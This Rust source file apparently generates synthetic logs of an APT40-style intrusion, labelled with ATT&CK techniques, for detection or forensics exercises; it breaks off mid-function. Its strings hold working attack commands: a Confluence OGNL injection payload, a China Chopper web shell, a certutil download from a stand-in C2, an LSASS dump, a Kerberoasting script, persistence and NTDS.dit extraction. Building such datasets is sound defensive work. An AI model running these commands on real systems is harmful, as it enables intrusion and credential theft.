//! The intrusion, modelled on public reporting of APT40 tradecraft
//! (CISA AA24-190A, 2024; AA21-200A, 2021): exploitation of a public
//! Confluence (CVE-2021-26084), a China Chopper web shell on IIS, discovery,
//! LSASS dumping, Kerberoasting, SMB and SSH lateral movement, firewall
//! changes, scheduled-task persistence, staging and exfiltration over the
//! C2 channel to a compromised SOHO router.

use crate::out::{Label, Out};
use crate::rng::Rng;
use crate::time::{DAY, HOUR, MIN, SEC, iis_time, syslog_time};
use crate::truth::Detector::{self, Correlation, Ioc, Sigma};
use crate::win::{Proc, Win};
use crate::world::{ADMIN_WS, DC, DOMAIN, FS, Host, NETBIOS, SERVICE_ACCOUNTS, WEB, World};
use crate::zeek::{CONN, DNS, HTTP, conn_line, dns_line, http_line};

/// A storyline step (static form of [`crate::truth::Step`]).
#[derive(Debug)]
pub(crate) struct StepDef {
    pub id: &'static str,
    pub tactic: &'static str,
    pub techniques: &'static [&'static str],
    pub software: &'static [&'static str],
    pub description: &'static str,
}

/// The storyline, in order.
pub(crate) static STEPS: &[StepDef] = &[
    StepDef {
        id: "recon",
        tactic: "reconnaissance",
        techniques: &["T1595.002"],
        software: &[],
        description: "Vulnerability scan of the public web server from a compromised SOHO device",
    },
    StepDef {
        id: "exploit",
        tactic: "initial-access",
        techniques: &["T1190", "T1059.003"],
        software: &[],
        description: "CVE-2021-26084 Confluence OGNL injection through the IIS reverse proxy; java.exe runs cmd.exe",
    },
    StepDef {
        id: "webshell",
        tactic: "persistence",
        techniques: &["T1505.003"],
        software: &["S0020"],
        description: "China Chopper ASPX web shell written to the IIS web root and used over HTTPS POSTs",
    },
    StepDef {
        id: "discovery",
        tactic: "discovery",
        techniques: &[
            "T1033",
            "T1087.002",
            "T1069.002",
            "T1482",
            "T1018",
            "T1016",
            "T1049",
            "T1082",
            "T1057",
        ],
        software: &["S0039"],
        description: "Account, group, domain trust and network discovery through the web shell",
    },
    StepDef {
        id: "tool_transfer",
        tactic: "command-and-control",
        techniques: &["T1105", "T1071.001"],
        software: &[],
        description: "certutil downloads the implant from the C2 and starts it",
    },
    StepDef {
        id: "credential_dumping",
        tactic: "credential-access",
        techniques: &["T1003.001"],
        software: &[],
        description: "LSASS dumped with rundll32 comsvcs.dll MiniDump",
    },
    StepDef {
        id: "kerberoasting",
        tactic: "credential-access",
        techniques: &["T1558.003", "T1059.001"],
        software: &[],
        description: "RC4 service tickets requested for every SPN account within two minutes",
    },
    StepDef {
        id: "firewall",
        tactic: "defense-evasion",
        techniques: &["T1562.004"],
        software: &[],
        description: "netsh opens inbound TCP 9998-9999 for the implant's listener",
    },
    StepDef {
        id: "persistence",
        tactic: "persistence",
        techniques: &["T1053.005"],
        software: &[],
        description: "Boot-time scheduled task running the implant as SYSTEM",
    },
    StepDef {
        id: "lateral_smb",
        tactic: "lateral-movement",
        techniques: &["T1021.002", "T1569.002", "T1570", "T1078.002"],
        software: &[],
        description: "Stolen domain admin used over SMB: ADMIN$ copy and remote service creation on the file server and DC",
    },
    StepDef {
        id: "credential_ntds",
        tactic: "credential-access",
        techniques: &["T1003.003"],
        software: &[],
        description: "ntdsutil IFM copy of the AD database on the DC",
    },
    StepDef {
        id: "lateral_ssh",
        tactic: "lateral-movement",
        techniques: &["T1110.001", "T1021.004", "T1548.003"],
        software: &[],
        description: "SSH password guessing against the Linux server from the web server, success, sudo to a root shell",
    },
    StepDef {
        id: "staging",
        tactic: "collection",
        techniques: &["T1560.001", "T1074.001"],
        software: &[],
        description: "Password-protected RAR archives of drafting documents staged on the file server",
    },
    StepDef {
        id: "exfiltration",
        tactic: "exfiltration",
        techniques: &["T1041", "T1071.001"],
        software: &[],
        description: "Archives sent over the implant's HTTPS C2 channel to the compromised SOHO router",
    },
];

fn step(id: &str) -> usize {
    STEPS.iter().position(|s| s.id == id).unwrap_or(0)
}

/// Scanning and web-shell source addresses (compromised SOHO devices).
pub(crate) const ACCESS_IPS: &[&str] = &["198.51.100.23", "198.51.100.41"];
/// C2 and exfiltration endpoint (compromised SOHO router).
pub(crate) const C2_IP: &str = "203.0.113.77";
/// Domain resolving to the C2.
pub(crate) const C2_DOMAIN: &str = "sync.msupdate-cdn.example.com";
/// The web shell path.
pub(crate) const WEBSHELL: &str = "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\supp0rt.aspx";
const WEBSHELL_URI: &str = "/aspnet_client/system_web/supp0rt.aspx";
/// The implant as dropped on the web server.
pub(crate) const IMPLANT: &str = "C:\\ProgramData\\dsync.exe";
const IMPLANT_REMOTE: &str = "C:\\Windows\\Temp\\dsync.exe";
const JAVA: &str = "C:\\Program Files\\Atlassian\\Confluence\\jre\\bin\\java.exe";
const W3WP: &str = "C:\\Windows\\System32\\inetsrv\\w3wp.exe";
const CMD: &str = "C:\\Windows\\System32\\cmd.exe";
const SYSTEM: &str = "NT AUTHORITY\\SYSTEM";
const CHOPPER_UA: &str =
    "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64;+rv:78.0)+Gecko/20100101+Firefox/78.0";

fn l(step_id: &str, techniques: &'static [&'static str], detector: Detector) -> Option<Label> {
    Some(Label {
        step: step(step_id),
        techniques,
        detector,
    })
}

/// IIS line helper shared with the benign generator.
#[allow(clippy::too_many_arguments)]
pub(crate) fn iis_line(
    t: i64,
    method: &str,
    stem: &str,
    query: &str,
    port: u16,
    ip: &str,
    ua: &str,
    referer: &str,
    status: u16,
    taken: u64,
) -> String {
    let q = if query.is_empty() { "-" } else { query };
    format!(
        "{} 10.20.5.10 {method} {stem} {q} {port} - {ip} {ua} {referer} {status} 0 0 {taken}",
        iis_time(t)
    )
}

/// Generate the attack starting on day `attack_day` of the evidence window
/// (which begins at `start`, UTC) and lasting until `end`. Each phase draws
/// from `rng` in turn, in the order below: the demo is byte-for-byte
/// reproducible from its seed, so the order is part of the output.
pub(crate) fn generate(
    out: &mut Out,
    rng: &mut Rng,
    world: &World,
    start: i64,
    attack_day: i64,
    end: i64,
) {
    let a = start + attack_day * DAY;
    let web = &world.hosts[WEB];
    recon(out, rng, web, a);
    let mut w = Win { out, rng };
    let java = exploit(&mut w, web, a);
    let shell = WebShell::open(&mut w, web);
    discovery(&mut w, &shell, a);
    establish(&mut w, world, &shell, &java, a);
    let fs_implant = lateral_movement(&mut w, world, &shell, a);
    ssh_brute_force(&mut w, world, a);
    if let Some(imp) = fs_implant {
        exfiltration(&mut w, world, imp, a);
    }
    beacons(&mut w, world, a, end);
    let _ = ADMIN_WS;
}

/// Nuclei-style scan of the public web server.
fn recon(out: &mut Out, rng: &mut Rng, web: &Host, a: i64) {
    // --- recon: nuclei-style scan (02:05 NZST) ---
    let mut t = a + 14 * HOUR + 5 * MIN;
    let nuclei_ua = "Nuclei+-+Open-source+project+(github.com/projectdiscovery/nuclei)";
    let probes = [
        "/.env",
        "/.git/config",
        "/wp-login.php",
        "/admin/",
        "/manager/html",
        "/solr/admin/info/system",
        "/owa/auth/logon.aspx",
        "/ecp/",
        "/autodiscover/autodiscover.xml",
        "/remote/login",
        "/vpn/index.html",
        "/wiki/login.action",
        "/wiki/rest/applinks/1.0/manifest",
        "/wiki/pages/viewpage.action",
        "/jira/secure/Dashboard.jspa",
        "/api/v1/namespaces",
        "/actuator/env",
        "/console/login/LoginForm.jsp",
        "/cgi-bin/.%2e/.%2e/.%2e/etc/passwd",
        "/phpmyadmin/",
        "/server-status",
        "/web.config",
        "/elmah.axd",
        "/trace.axd",
        "/Telerik.Web.UI.WebResource.axd",
        "/_vti_bin/",
        "/aspnet_client/",
        "/debug/pprof/",
        "/.DS_Store",
        "/backup.zip",
    ];
    for round in 0..2 {
        for p in probes {
            t += 300_000 + rng.below(900_000) as i64;
            let status = if p.starts_with("/wiki/") { 200 } else { 404 };
            let (stem, q) = if round == 1 && status == 404 {
                (p, "x=1")
            } else {
                (p, "")
            };
            out.iis(
                &web.name,
                t,
                iis_line(
                    t,
                    "GET",
                    stem,
                    q,
                    443,
                    ACCESS_IPS[0],
                    nuclei_ua,
                    "-",
                    status,
                    15 + rng.below(80),
                ),
                l("recon", &["T1595.002"], Sigma),
            );
        }
    }
}

/// CVE-2021-26084 OGNL injection into Confluence; returns Confluence's
/// java.exe, the parent of the exploit's commands.
fn exploit(w: &mut Win, web: &Host, a: i64) -> Proc {
    // --- exploit: CVE-2021-26084 OGNL injection ---
    let java = Proc::existing(
        w.rng,
        web,
        JAVA,
        "\"C:\\Program Files\\Atlassian\\Confluence\\jre\\bin\\java.exe\" -Djava.util.logging.config.file=\"C:\\Program Files\\Atlassian\\Confluence\\conf\\logging.properties\" -Xms1024m -Xmx1024m -classpath \"C:\\Program Files\\Atlassian\\Confluence\\bin\\bootstrap.jar\" org.apache.catalina.startup.Bootstrap start",
        SYSTEM,
    );
    let ognl = |cmd: &str| {
        let c = cmd.replace(' ', "%5Cu0022%2C%5Cu0022");
        format!(
            "SpaceKey=x&queryString=aaaaaaaa%5Cu0027%2B%7BClass.forName%28%5Cu0027javax.script.ScriptEngineManager%5Cu0027%29.newInstance%28%29.getEngineByName%28%5Cu0027JavaScript%5Cu0027%29.eval%28%5Cu0027var+p%3Dnew+java.lang.ProcessBuilder%28%5B%5Cu0022cmd.exe%5Cu0022%2C%5Cu0022%2Fc%5Cu0022%2C%5Cu0022{c}%5Cu0022%5D%29.start%28%29%5Cu0027%29%7D%2B%5Cu0027"
        )
    };
    let stem = "/wiki/pages/createpage-entervariables.action";
    let mut t = a + 14 * HOUR + 41 * MIN;
    let probe = "SpaceKey=x&queryString=aaa%5Cu0027%2B%23%7B%5Cu0022%5Cu0022%5B%5Cu0022class%5Cu0022%5D%7D%2B%5Cu0027";
    w.out.iis(
        &web.name,
        t,
        iis_line(
            t,
            "GET",
            stem,
            probe,
            443,
            ACCESS_IPS[0],
            CHOPPER_UA,
            "-",
            200,
            412,
        ),
        l("exploit", &["T1190"], Sigma),
    );
    let exploit_cmds = [
        "whoami".to_string(),
        format!(
            "echo ^<%@ Page Language=\"Jscript\"%^>^<%eval(Request.Item[\"z\"],\"unsafe\");%^> > {WEBSHELL}"
        ),
    ];
    for c in &exploit_cmds {
        t += 40 * SEC + w.rng.below(60) as i64 * SEC;
        w.out.iis(
            &web.name,
            t,
            iis_line(
                t,
                "GET",
                stem,
                &ognl(c),
                443,
                ACCESS_IPS[0],
                CHOPPER_UA,
                "-",
                200,
                380 + w.rng.below(300),
            ),
            l("exploit", &["T1190"], Sigma),
        );
        let sh = w.spawn(
            web,
            t + 300_000,
            &java,
            CMD,
            &format!("cmd.exe /c {c}"),
            SYSTEM,
            l("exploit", &["T1190", "T1059.003"], Sigma),
        );
        if c == "whoami" {
            w.spawn(
                web,
                t + 350_000,
                &sh,
                "C:\\Windows\\System32\\whoami.exe",
                "whoami",
                SYSTEM,
                l("exploit", &["T1033"], Correlation),
            );
        } else {
            w.file(
                web,
                t + 400_000,
                &sh,
                WEBSHELL,
                l("webshell", &["T1505.003"], Sigma),
            );
        }
    }
    java
}

/// One web-shell command: the POST, w3wp -> cmd (Chopper's wrapper), and the tool.
struct Ws<'a> {
    tool: Option<(&'a str, String)>,
    inner: String,
    step: &'static str,
    techniques: &'static [&'static str],
    tool_detector: Detector,
}

fn ws(
    tool: Option<(&'static str, &str)>,
    inner: &str,
    step: &'static str,
    techniques: &'static [&'static str],
    d: Detector,
) -> Ws<'static> {
    Ws {
        tool: tool.map(|(i, c)| (i, c.to_string())),
        inner: inner.to_string(),
        step,
        techniques,
        tool_detector: d,
    }
}

/// The China Chopper web shell on the public web server, run by IIS's w3wp.
struct WebShell<'h> {
    web: &'h Host,
    w3wp: Proc,
}

impl<'h> WebShell<'h> {
    fn open(w: &mut Win, web: &'h Host) -> Self {
        let w3wp = Proc::existing(
            w.rng,
            web,
            W3WP,
            "c:\\windows\\system32\\inetsrv\\w3wp.exe -ap \"PCOPublic\" -v \"v4.0\" -l \"webengine4.dll\" -a \\\\.\\pipe\\iisipm5c3c1e24-1b39-4a8a-9b3c-2d3b1f0f6c1a -h \"C:\\inetpub\\temp\\apppools\\PCOPublic\\PCOPublic.config\" -w \"\" -m 0",
            SYSTEM,
        );
        WebShell { web, w3wp }
    }

    /// Run one command through the shell; the tool's process, if any.
    fn command(&self, w: &mut Win, t: i64, src: &str, c: &Ws) -> Option<Proc> {
        let (web, w3wp) = (self.web, &self.w3wp);
        w.out.iis(
            &web.name,
            t,
            iis_line(
                t,
                "POST",
                WEBSHELL_URI,
                "",
                443,
                src,
                CHOPPER_UA,
                "-",
                200,
                60 + w.rng.below(400),
            ),
            l("webshell", &["T1505.003"], Sigma),
        );
        let cmdline = format!(
            "cmd.exe /c cd /d \"C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\\"&{}&echo [S]&cd&echo [E]",
            c.inner
        );
        let sh = w.spawn(
            web,
            t + 150_000,
            w3wp,
            CMD,
            &cmdline,
            SYSTEM,
            l("webshell", &["T1505.003", "T1059.003"], Sigma),
        );
        c.tool.as_ref().map(|(img, cmd)| {
            w.spawn(
                web,
                t + 200_000,
                &sh,
                img,
                cmd,
                SYSTEM,
                l(c.step, c.techniques, c.tool_detector),
            )
        })
    }
}

/// Discovery commands through the web shell.
fn discovery(w: &mut Win, shell: &WebShell, a: i64) {
    let web = shell.web;
    let sys32 = |n: &str| format!("C:\\Windows\\System32\\{n}");
    let (whoami, ipconfig, net, nltest, netstat, systeminfo, tasklist) = (
        sys32("whoami.exe"),
        sys32("ipconfig.exe"),
        sys32("net.exe"),
        sys32("nltest.exe"),
        sys32("NETSTAT.EXE"),
        sys32("systeminfo.exe"),
        sys32("tasklist.exe"),
    );
    let leak = |s: &String| -> &'static str { Box::leak(s.clone().into_boxed_str()) };
    let (whoami, ipconfig, net, nltest, netstat, systeminfo, tasklist) = (
        leak(&whoami),
        leak(&ipconfig),
        leak(&net),
        leak(&nltest),
        leak(&netstat),
        leak(&systeminfo),
        leak(&tasklist),
    );
    let dclist = format!("nltest /dclist:{DOMAIN}");
    let discovery = [
        ws(
            Some((whoami, "whoami /all")),
            "whoami /all",
            "discovery",
            &["T1033"],
            Sigma,
        ),
        ws(
            Some((ipconfig, "ipconfig /all")),
            "ipconfig /all",
            "discovery",
            &["T1016"],
            Correlation,
        ),
        ws(
            Some((net, "net group \"domain admins\" /domain")),
            "net group \"domain admins\" /domain",
            "discovery",
            &["T1069.002"],
            Sigma,
        ),
        ws(
            Some((net, "net group \"enterprise admins\" /domain")),
            "net group \"enterprise admins\" /domain",
            "discovery",
            &["T1069.002"],
            Sigma,
        ),
        ws(
            Some((net, "net user /domain")),
            "net user /domain",
            "discovery",
            &["T1087.002"],
            Sigma,
        ),
        ws(
            Some((nltest, &dclist)),
            &dclist,
            "discovery",
            &["T1018"],
            Sigma,
        ),
        ws(
            Some((nltest, "nltest /domain_trusts /all_trusts")),
            "nltest /domain_trusts /all_trusts",
            "discovery",
            &["T1482"],
            Sigma,
        ),
        ws(
            Some((netstat, "netstat -ano")),
            "netstat -ano",
            "discovery",
            &["T1049"],
            Correlation,
        ),
        ws(
            Some((systeminfo, "systeminfo")),
            "systeminfo",
            "discovery",
            &["T1082"],
            Correlation,
        ),
        ws(
            Some((tasklist, "tasklist /v")),
            "tasklist /v",
            "discovery",
            &["T1057"],
            Correlation,
        ),
    ];
    let mut t = a + 15 * HOUR + 2 * MIN;
    for c in &discovery {
        t += 30 * SEC + w.rng.below(150) as i64 * SEC;
        if let Some(p) = shell.command(w, t, ACCESS_IPS[0], c)
            && p.image.ends_with("net.exe")
        {
            let sub = p.cmd.trim_start_matches("net ");
            w.spawn(
                web,
                t + 260_000,
                &p,
                "C:\\Windows\\System32\\net1.exe",
                &format!("C:\\Windows\\system32\\net1 {sub}"),
                SYSTEM,
                l("discovery", c.techniques, Sigma),
            );
        }
    }
}

/// Day +1: tool transfer, implant, credentials, Kerberoasting, firewall,
/// persistence.
fn establish(w: &mut Win, world: &World, shell: &WebShell, java: &Proc, a: i64) {
    let t = implant(w, shell, java, a);
    credentials_and_persistence(w, world, shell, java, t);
}

/// Day +1, first: tool transfer and the implant's start; returns the time
/// the attacker moves on.
fn implant(w: &mut Win, shell: &WebShell, java: &Proc, a: i64) -> i64 {
    let web = shell.web;
    // --- day +1: tool transfer, implant, creds, kerberoast, firewall, persistence ---
    let mut t = a + DAY + 13 * HOUR + 10 * MIN;
    let dl = format!("certutil -urlcache -split -f http://{C2_IP}:8080/update.bin {IMPLANT}");
    let cu = shell
        .command(
            w,
            t,
            ACCESS_IPS[1],
            &ws(
                Some(("C:\\Windows\\System32\\certutil.exe", &dl)),
                &dl,
                "tool_transfer",
                &["T1105"],
                Sigma,
            ),
        )
        .unwrap_or_else(|| java.clone());
    w.net(
        web,
        t + 900_000,
        &cu,
        C2_IP,
        8080,
        "-",
        l("tool_transfer", &["T1105"], Sigma),
    );
    w.file(
        web,
        t + 2 * SEC,
        &cu,
        IMPLANT,
        l("tool_transfer", &["T1105"], Sigma),
    );
    zeek_conn(
        w.out,
        w.rng,
        t + 900_000,
        &web.ip,
        C2_IP,
        8080,
        "http",
        420,
        1_284_096,
        l("tool_transfer", &["T1105"], Ioc),
    );
    let hl = http_line(
        w.rng,
        t + 900_000,
        &web.ip,
        C2_IP,
        8080,
        &format!("{C2_IP}:8080"),
        "/update.bin",
        "Microsoft-CryptoAPI/10.0",
        1_284_096,
        "application/x-dosexec",
    );
    w.out.zeek(
        "sensor01/zeek/http.log",
        HTTP,
        t + 900_000,
        hl,
        l("tool_transfer", &["T1105"], Ioc),
    );
    t += 3 * MIN;
    let start_implant = format!("start /b {IMPLANT}");
    let implant = shell
        .command(
            w,
            t,
            ACCESS_IPS[1],
            &ws(
                Some((IMPLANT, IMPLANT)),
                &start_implant,
                "tool_transfer",
                &["T1105"],
                Sigma,
            ),
        )
        .unwrap_or_else(|| java.clone());
    w.dns(
        web,
        t + SEC,
        &implant,
        C2_DOMAIN,
        C2_IP,
        l("tool_transfer", &["T1071.001"], Sigma),
    );
    w.net(
        web,
        t + 2 * SEC,
        &implant,
        C2_IP,
        443,
        C2_DOMAIN,
        l("tool_transfer", &["T1071.001"], Sigma),
    );
    zeek_dns(
        w.out,
        w.rng,
        t + SEC,
        C2_DOMAIN,
        C2_IP,
        l("tool_transfer", &["T1071.001"], Ioc),
    );
    t
}

/// Day +1, then: LSASS dump, Kerberoasting, the firewall opening for the
/// implant's listener, and persistence.
fn credentials_and_persistence(
    w: &mut Win,
    world: &World,
    shell: &WebShell,
    java: &Proc,
    mut t: i64,
) {
    let web = shell.web;
    let dc = &world.hosts[DC];
    t += 12 * MIN;
    let lsass = Proc::existing(
        w.rng,
        web,
        "C:\\Windows\\system32\\lsass.exe",
        "C:\\Windows\\system32\\lsass.exe",
        SYSTEM,
    );
    let lsass = Proc {
        pid: web.lsass_pid,
        ..lsass
    };
    shell.command(
        w,
        t,
        ACCESS_IPS[1],
        &ws(
            Some((
                "C:\\Windows\\System32\\tasklist.exe",
                "tasklist /fi \"imagename eq lsass.exe\"",
            )),
            "tasklist /fi \"imagename eq lsass.exe\"",
            "credential_dumping",
            &["T1057"],
            Correlation,
        ),
    );
    t += 70 * SEC;
    let md = format!(
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {} C:\\Windows\\Temp\\dbg.dmp full",
        web.lsass_pid
    );
    let rd = shell
        .command(
            w,
            t,
            ACCESS_IPS[1],
            &ws(
                Some(("C:\\Windows\\System32\\rundll32.exe", &md)),
                &md,
                "credential_dumping",
                &["T1003.001"],
                Sigma,
            ),
        )
        .unwrap_or_else(|| java.clone());
    w.access(web, t + 400_000, &rd, &lsass, "0x1fffff", "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|C:\\Windows\\System32\\comsvcs.dll+3d8d8|C:\\Windows\\System32\\comsvcs.dll+3b9b6|C:\\Windows\\system32\\rundll32.exe+3bd4|UNKNOWN(00007FFB2C1A1B32)", l("credential_dumping", &["T1003.001"], Sigma));
    w.file(
        web,
        t + 3 * SEC,
        &rd,
        "C:\\Windows\\Temp\\dbg.dmp",
        l("credential_dumping", &["T1003.001"], Sigma),
    );

    // Kerberoasting from the web server (SYSTEM = the machine account).
    t += 9 * MIN;
    let script = "Add-Type -AssemblyName System.IdentityModel; $s=([adsisearcher]'(&(objectCategory=user)(servicePrincipalName=*))').FindAll(); foreach($u in $s){ $spn=$u.Properties.serviceprincipalname[0]; $tk=New-Object System.IdentityModel.Tokens.KerberosRequestorSecurityToken -ArgumentList $spn; $b=$tk.GetRequest(); [IO.File]::AppendAllText('C:\\Windows\\Temp\\k.txt', $spn+':'+[Convert]::ToBase64String($b)+\"`n\") }";
    let enc = utf16_b64(script);
    let ps_cmd = format!("powershell.exe -nop -w hidden -enc {enc}");
    shell.command(
        w,
        t,
        ACCESS_IPS[1],
        &ws(
            Some((
                "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                &ps_cmd,
            )),
            &ps_cmd,
            "kerberoasting",
            &["T1059.001", "T1027"],
            Sigma,
        ),
    );
    w.script(
        web,
        t + 2 * SEC,
        script,
        "",
        l("kerberoasting", &["T1558.003", "T1059.001"], Sigma),
    );
    let mut tk = t + 5 * SEC;
    for (_acct, spn) in SERVICE_ACCOUNTS {
        tk += 2 * SEC + w.rng.below(20) as i64 * SEC;
        let svc = _acct;
        let _ = spn;
        w.tgs(
            dc,
            tk,
            &format!("{}$", web.name),
            svc,
            "0x17",
            "0x40810000",
            &web.ip,
            l("kerberoasting", &["T1558.003"], Sigma),
        );
    }

    // Firewall opening for the implant's listener.
    t += 11 * MIN;
    let fw = "netsh advfirewall firewall add rule name=\"Windows Device Sync\" dir=in action=allow protocol=TCP localport=9998,9999";
    shell.command(
        w,
        t,
        ACCESS_IPS[1],
        &ws(
            Some(("C:\\Windows\\System32\\netsh.exe", fw)),
            fw,
            "firewall",
            &["T1562.004"],
            Sigma,
        ),
    );
    w.fw_rule(
        web,
        t + SEC,
        "Windows Device Sync",
        "",
        "9998,9999",
        "C:\\Windows\\System32\\netsh.exe",
        "S-1-5-18",
        l("firewall", &["T1562.004"], Sigma),
    );

    // Persistence.
    t += 4 * MIN;
    let st = format!(
        "schtasks /create /tn \"\\Microsoft\\Windows\\DeviceSync\\SyncHost\" /tr {IMPLANT} /sc onstart /ru SYSTEM /f"
    );
    shell.command(
        w,
        t,
        ACCESS_IPS[1],
        &ws(
            Some(("C:\\Windows\\System32\\schtasks.exe", &st)),
            &st,
            "persistence",
            &["T1053.005"],
            Sigma,
        ),
    );
    w.task(
        web,
        t + SEC,
        &format!("{}$", web.name),
        "\\Microsoft\\Windows\\DeviceSync\\SyncHost",
        IMPLANT,
        "",
        "S-1-5-18",
        l("persistence", &["T1053.005"], Sigma),
    );
}

/// Day +3: lateral movement over SMB with the stolen admin, to the file
/// server and then the domain controller; returns the implant started on
/// the file server.
fn lateral_movement(w: &mut Win, world: &World, shell: &WebShell, a: i64) -> Option<Proc> {
    let (fs, dc) = (&world.hosts[FS], &world.hosts[DC]);
    let mut fs_implant = None;
    for (k, target) in [(FS, fs), (DC, dc)] {
        if let Some(p) = move_to(w, world, shell, a, k, target) {
            fs_implant = Some(p);
        }
    }
    fs_implant
}

/// Lateral movement to one host (index `k` of `World::hosts`): logon with
/// the stolen admin, a service that starts the implant; returns the
/// implant's process on the file server.
fn move_to(
    w: &mut Win,
    world: &World,
    shell: &WebShell,
    a: i64,
    k: usize,
    target: &Host,
) -> Option<Proc> {
    let web = shell.web;
    let stolen = world.stolen_admin();
    let stolen_sid = World::sid_of(&stolen);
    let mut t = a + 3 * DAY + 13 * HOUR + if k == DC { 40 * MIN } else { 0 };
    let nu = format!(
        "net use \\\\{}\\ADMIN$ /user:{NETBIOS}\\{stolen} Winter2021!",
        target.name
    );
    shell.command(
        w,
        t,
        ACCESS_IPS[1],
        &ws(
            Some(("C:\\Windows\\System32\\net.exe", &nu)),
            &nu,
            "lateral_smb",
            &["T1021.002", "T1078.002"],
            Sigma,
        ),
    );
    let lid = w.logon(
        target,
        t + 500_000,
        &stolen,
        &stolen_sid,
        3,
        &web.ip,
        &web.name,
        true,
        l("lateral_smb", &["T1021.002", "T1078.002"], Correlation),
    );
    w.special(
        target,
        t + 510_000,
        &stolen,
        &stolen_sid,
        &lid,
        l("lateral_smb", &["T1078.002"], Correlation),
    );
    w.share(
        target,
        t + 600_000,
        5140,
        &stolen,
        &stolen_sid,
        &web.ip,
        "ADMIN$",
        "C:\\Windows",
        "",
        l("lateral_smb", &["T1021.002"], Sigma),
    );
    let svc = if k == FS {
        "DeviceSyncSvc"
    } else {
        "WinSyncSvc"
    };
    let bin = if k == FS {
        format!("cmd.exe /c {IMPLANT_REMOTE}")
    } else {
        "cmd.exe /c ntdsutil.exe \"ac i ntds\" ifm \"create full C:\\ProgramData\\ifm\" q q"
            .to_string()
    };
    if k == FS {
        t += MIN;
        let cp = format!(
            "copy {IMPLANT} \\\\{}\\ADMIN$\\Temp\\dsync.exe",
            target.name
        );
        shell.command(
            w,
            t,
            ACCESS_IPS[1],
            &ws(None, &cp, "lateral_smb", &["T1570"], Sigma),
        );
        w.share(
            target,
            t + 400_000,
            5145,
            &stolen,
            &stolen_sid,
            &web.ip,
            "ADMIN$",
            "C:\\Windows",
            "Temp\\dsync.exe",
            l("lateral_smb", &["T1570"], Sigma),
        );
        let system = Proc {
            pid: 4,
            image: "System".into(),
            ..Proc::existing(w.rng, target, "System", "", SYSTEM)
        };
        w.file(
            target,
            t + 500_000,
            &system,
            IMPLANT_REMOTE,
            l("lateral_smb", &["T1570"], Sigma),
        );
    }
    t += MIN;
    let sc = format!(
        "sc \\\\{} create {svc} binPath= \"{bin}\" start= demand",
        target.name
    );
    shell.command(
        w,
        t,
        ACCESS_IPS[1],
        &ws(
            Some(("C:\\Windows\\System32\\sc.exe", &sc)),
            &sc,
            "lateral_smb",
            &["T1569.002"],
            Sigma,
        ),
    );
    w.service(
        target,
        t + 400_000,
        svc,
        &bin,
        "LocalSystem",
        &stolen,
        l("lateral_smb", &["T1569.002"], Sigma),
    );
    t += 30 * SEC;
    let scs = format!("sc \\\\{} start {svc}", target.name);
    shell.command(
        w,
        t,
        ACCESS_IPS[1],
        &ws(
            Some(("C:\\Windows\\System32\\sc.exe", &scs)),
            &scs,
            "lateral_smb",
            &["T1569.002"],
            Sigma,
        ),
    );
    let services = Proc::existing(
        w.rng,
        target,
        "C:\\Windows\\System32\\services.exe",
        "C:\\Windows\\system32\\services.exe",
        SYSTEM,
    );
    let sh = w.spawn(
        target,
        t + 400_000,
        &services,
        CMD,
        &bin,
        SYSTEM,
        l("lateral_smb", &["T1569.002"], Sigma),
    );
    w.service_state(target, t + 450_000, svc, "running");
    service_payload(w, target, t, &sh, k == FS)
}

/// What the service started: the implant on the file server (returned),
/// an NTDS.dit copy with ntdsutil on the domain controller.
fn service_payload(
    w: &mut Win,
    target: &Host,
    t: i64,
    sh: &Proc,
    file_server: bool,
) -> Option<Proc> {
    if file_server {
        let p = w.spawn(
            target,
            t + 500_000,
            sh,
            IMPLANT_REMOTE,
            IMPLANT_REMOTE,
            SYSTEM,
            l("lateral_smb", &["T1569.002"], Sigma),
        );
        w.net(
            target,
            t + 2 * SEC,
            &p,
            C2_IP,
            443,
            C2_DOMAIN,
            l("exfiltration", &["T1071.001"], Sigma),
        );
        Some(p)
    } else {
        let nt = w.spawn(
            target,
            t + 500_000,
            sh,
            "C:\\Windows\\System32\\ntdsutil.exe",
            "ntdsutil.exe \"ac i ntds\" ifm \"create full C:\\ProgramData\\ifm\" q q",
            SYSTEM,
            l("credential_ntds", &["T1003.003"], Sigma),
        );
        w.file(
            target,
            t + 20 * SEC,
            &nt,
            "C:\\ProgramData\\ifm\\Active Directory\\ntds.dit",
            l("credential_ntds", &["T1003.003"], Sigma),
        );
        w.file(
            target,
            t + 22 * SEC,
            &nt,
            "C:\\ProgramData\\ifm\\registry\\SYSTEM",
            l("credential_ntds", &["T1003.003"], Correlation),
        );
        None
    }
}

/// Day +4: SSH brute force from the web server to the Linux box.
fn ssh_brute_force(w: &mut Win, world: &World, a: i64) {
    let web = &world.hosts[WEB];
    // --- day +4: SSH brute force from the web server to the Linux box ---
    let (lnx, lnx_ip) = (&world.linux.0, &world.linux.1);
    let mut t = a + 4 * DAY + 12 * HOUR + 3 * MIN;
    let mut pid = 20_000 + w.rng.below(5000) as u32;
    let guesses = [
        "root",
        "admin",
        "oracle",
        "ubuntu",
        "svc_deploy",
        "test",
        "deploy",
        "root",
        "jenkins",
        "svc_deploy",
    ];
    for i in 0..42u32 {
        t += 4 * SEC + w.rng.below(9) as i64 * SEC;
        pid += 1 + w.rng.below(4) as u32;
        let user = guesses[i as usize % guesses.len()];
        let port = 40000 + w.rng.below(20000);
        let valid = matches!(user, "root" | "svc_deploy");
        if !valid {
            w.out.text(
                &auth_file(lnx),
                t,
                format!(
                    "{} {lnx} sshd[{pid}]: Invalid user {user} from {} port {port}",
                    syslog_time(t),
                    web.ip
                ),
                l("lateral_ssh", &["T1110.001"], Sigma),
            );
        }
        let inv = if valid { "" } else { "invalid user " };
        w.out.text(
            &auth_file(lnx),
            t + 2 * SEC,
            format!(
                "{} {lnx} sshd[{pid}]: Failed password for {inv}{user} from {} port {port} ssh2",
                syslog_time(t + 2 * SEC),
                web.ip
            ),
            l("lateral_ssh", &["T1110.001"], Sigma),
        );
        zeek_conn(
            w.out,
            w.rng,
            t,
            &web.ip,
            lnx_ip,
            22,
            "ssh",
            1800,
            2600,
            l("lateral_ssh", &["T1110.001"], Correlation),
        );
    }
    t += 30 * SEC;
    pid += 3;
    let port = 40000 + w.rng.below(20000);
    w.out.text(
        &auth_file(lnx),
        t,
        format!(
